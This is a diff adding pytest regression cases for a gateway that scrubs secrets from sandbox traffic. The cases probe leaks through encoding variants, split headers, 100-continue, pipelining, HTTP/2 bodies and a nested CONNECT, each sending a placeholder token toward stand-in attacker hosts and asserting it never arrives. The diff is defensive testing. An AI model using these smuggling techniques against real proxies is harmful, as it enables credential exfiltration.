@@ -331,6 +331,25 @@ def test_mixed_case_hex_of_the_key_is_scrubbed(env):
     assert_never_leaked(resp.wire, KEY_E, what="mixed-case hex")
 
 
+# Neighbours that held in this pass (kept as regression cases): the key never reaches the
+# sandbox, whether the answer is scrubbed or refused.
+HELD_NEIGHBOURS = [
+    "ce/x?h=identity,gzip&enc=gzip", "ce/x?h=GZIP&enc=gzip", "ce/x?h=%20gzip%20,%20identity&enc=gzip",
+    "ce/x?h=gzip,%20br&enc=gzip,br", "ce/x?h=x-gzip&enc=gzip", "ce/x?h=gzip;q=1&enc=gzip",
+    "ce/x?h=deflate&enc=gzip", "gzip-split/x", "br-split/x", "hdrname/x",
+    "location/x", "header/x", "early-hints/x", "chunked-split/x", "bomb/x?mib=80",
+]
+
+
+@pytest.mark.parametrize("route", HELD_NEIGHBOURS)
+def test_scrub_neighbours_that_held(env, route):
+    m = _marker()
+    name, _, rest = route.partition("/")
+    resp = env.sandbox("explicit").get("https", EVIL, f"/{name}/{m}{rest[1:]}", timeout=3)
+    _injected(env, m)
+    assert_never_leaked(resp.wire, KEY_E, what=route)
+
+
 # ================================================================ outbound leak check
 def _leaks_in(data: bytes, *values: str) -> list[str]:
     return [f"{v[:6]}…:{hits}" for v in values if (hits := found_forms(data, v))]
@@ -400,6 +419,44 @@ def test_mixed_case_hex_placeholder_is_leak_checked(env):
                                        headers=[("Content-Type", "application/json")])
     got = env.up.requests(m)
     assert not any(mixed.encode() in r["body"] for r in got), f"mixed-case hex of the placeholder reached the upstream ({resp})"
+
+
+def _upstream_saw(env, marker: str, *values: str) -> list[str]:
+    seen = b"".join(r["target"].encode() + str(r["headers"]).encode() + r["body"] + str(r["trailers"]).encode()
+                    for r in env.up.requests(marker))
+    return _leaks_in(seen, *values)
+
+
+def test_outbound_neighbours_that_held(env):
+    """Expect: 100-continue, a pipelined second request, an HTTP/2 body without content-length,
+    and a CONNECT inside an intercepted tunnel: none carries the placeholder upstream."""
+    sb = env.sandbox("explicit")
+    ph = env.ph_l.encode()
+    # 100-continue: the head is checked before the gateway says 100; the body after it
+    m1 = _marker()
+    raw = sb.request_bytes("https", EVIL, f"/echo/{m1}", method="POST", headers=[
+        ("Expect", "100-continue"), ("Content-Length", str(len(ph) + 6))])
+    _exchange_raw(sb, "https", EVIL, raw, after=lambda sock, first: sock.sendall(b"token=" + ph), timeout=2)
+    # pipelining on plain HTTP: a clean request, then one whose body holds the placeholder
+    m2 = _marker()
+    first = sb.request_bytes("http", EVIL, f"/echo/{m2}-1", headers=[("Connection", "keep-alive")])
+    second = sb.request_bytes("http", EVIL, f"/echo/{m2}-2", method="POST", body=b"token=" + ph)
+    _exchange_raw(sb, "http", EVIL, first + second, timeout=2)
+    # HTTP/2 POST without content-length, the placeholder at the end of its DATA
+    m3 = _marker()
+    sock = sb.tls(EVIL, alpn=("h2",))
+    try:
+        h2_session(sock, [{"headers": _h2_get(f"/echo/{m3}", method="POST"), "body": b"x" * 15000 + ph}], timeout=3)
+    finally:
+        sock.close()
+    # CONNECT inside the intercepted tunnel (mitmproxy runs http_connect again there)
+    m4 = _marker()
+    inner = (f"CONNECT {LEAK}:443 HTTP/1.1\r\nHost: {LEAK}:443\r\n{sb.auth}\r\n\r\n"
+             f"GET /echo/{m4}?t={env.ph_l} HTTP/1.1\r\nHost: {EVIL}\r\n\r\n").encode()
+    _exchange_raw(sb, "https", EVIL, inner, timeout=2)
+    for m in (m1, m2, m3, m4):
+        assert not _upstream_saw(env, m, env.ph_l), f"{m}: the upstream received the placeholder"
+    assert len(env.up.requests(f"{m2}-1")) == 1, "the clean pipelined request was not served: the probe proved nothing"
 
 
 # ==================================================================== shared gateway
